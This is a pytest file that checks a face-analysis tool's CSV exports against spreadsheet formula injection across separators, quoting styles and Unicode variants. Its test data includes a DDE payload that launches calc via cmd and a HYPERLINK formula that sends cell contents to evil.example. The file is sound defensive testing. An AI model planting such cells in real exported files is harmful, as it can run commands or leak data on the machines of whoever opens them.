"""No cell of a CSV is run by a spreadsheet, at whichever sign and with whatever idea of quotation marks it splits."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC
from pathlib import Path

import pytest

from facetraits.cli.output import _cut_to_finished
from facetraits.tables import csv_cell, csv_text, picture_record
from facetraits.video.timeline import error_record, timeline_csv_lines
from facetraits.visitors.export import to_csv
from tests.builders import make_face, make_result
from tests.visitors.made_visits import frame_of, make_visit
from ui.kit.tables import Column, Table

FORMULA = "cmd|' /C calc'!A0"
CELLS = [
    *(f"{sign}{FORMULA}" for sign in "=+-@＝＋－＠"),
    *(f"{space}={FORMULA}" for space in (" ", "   ", "\t", "\r", "\n", "\r\n", "\u00a0", "\u3000", "\u200b", "\ufeff")),
    *(f"a{mark}=1+1" for mark in (";", "\t", ",", "|", "\n", "\r", "; ", ";\u00a0", ';"', '";', "\n\n")),
    *('"=1+1"', '";=1+1', 'a;"=1+1";b', ";;;=1+1", "a;＝1+1", "-1+1", "-1;-2+3", "+49 30 1", "--1", "=", "@", "\t"),
    'HYPERLINK;=HYPERLINK("http://evil.example?"&A1;"here")',
    "=WEBSERVICE(CONCATENATE(A1))",
]
PLAIN = [
    *("photo.jpg", "a-b.jpg", "a - b", "x=1", "me@example.org", "1+1", "''", "Zoë – 家族", 'door, "left"; 1', " door"),
    "too small;blurred",
]


def runs(cell: str) -> bool:
    """Whether some spreadsheet takes the cell for a formula; one that is only a number does no harm."""
    bare = cell.strip('" \t\r\n\u00a0\u3000\u200b\ufeff')
    return bare.startswith(tuple("=+-@＝＋－＠")) and not re.fullmatch(r"-?\d+(\.\d+)?", bare)


def cells_of(text: str) -> set[str]:
    """What spreadsheets of all countries make of the text."""
    cells: set[str] = set()
    for mark in ",;\t|":
        cells.update(part for line in re.split(r"[\r\n]", text) for part in line.split(mark))
        for quoting in (csv.QUOTE_MINIMAL, csv.QUOTE_NONE):
            rows = csv.reader(io.StringIO(text, newline=""), delimiter=mark, quoting=quoting)
            cells.update(cell for row in rows for cell in row)
    return cells


def written(cell: str) -> dict[str, str]:
    """The cell in every kind of CSV that there is."""
    frame = frame_of([make_visit(), make_visit()]).assign(source=[cell, "door"])
    table = Table("", (Column(cell), Column("Number")), ((cell, -1.5), (None, -2)))
    return {
        "faces": csv_text([picture_record(cell, make_result(make_face(left=-12)), None)]),
        "errors": csv_text([picture_record("a.jpg", None, cell)]),
        "videos": "".join(timeline_csv_lines([error_record(cell, cell)])),
        "visits": to_csv(frame, UTC).decode("utf-8-sig"),
        "tables of pages": table.to_csv().decode("utf-8-sig"),
    }


@pytest.mark.parametrize("cell", CELLS)
def test_hostile_cells_are_no_formulas(cell: str) -> None:
    found = {name: [part for part in cells_of(text) if runs(part)] for name, text in written(cell).items()}

    assert not any(found.values()), found


@pytest.mark.parametrize("cell", PLAIN)
def test_others_stay_as_they_are(cell: str) -> None:
    for name, text in written(cell).items():
        assert cell in {found for row in csv.reader(io.StringIO(text, newline="")) for found in row}, name


@pytest.mark.parametrize("cell", [*CELLS, *PLAIN])
def test_a_guarded_cell_is_not_guarded_again(cell: str) -> None:
    assert csv_cell(csv_cell(cell)) == csv_cell(cell)


def test_cells_with_any_separator_are_in_quotation_marks() -> None:
    for mark in ",;\t|\r\n":
        for name, text in written(f"a{mark}b").items():
            assert f'"a{mark}b"' in text, name


def test_numbers_stay_numbers() -> None:
    assert [csv_cell(value) for value in (-1, -0.5, 3, None)] == [-1, -0.5, 3, None]
    assert "\r\n,-2\r\n" in written("door")["tables of pages"]
    assert ",-12.0," in written("door")["faces"]


def test_a_run_that_goes_on_leaves_what_is_written_as_it_is(tmp_path: Path) -> None:
    records = [picture_record(path, make_result(make_face(left=-12)), None) for path in ("=a.jpg", "b;=1.jpg", "c.jpg")]
    part = tmp_path / "out.csv.part"
    part.write_text(csv_text(records), encoding="utf-8", newline="")

    _cut_to_finished(part, "csv")

    assert part.read_bytes().decode() == csv_text(records[:2])
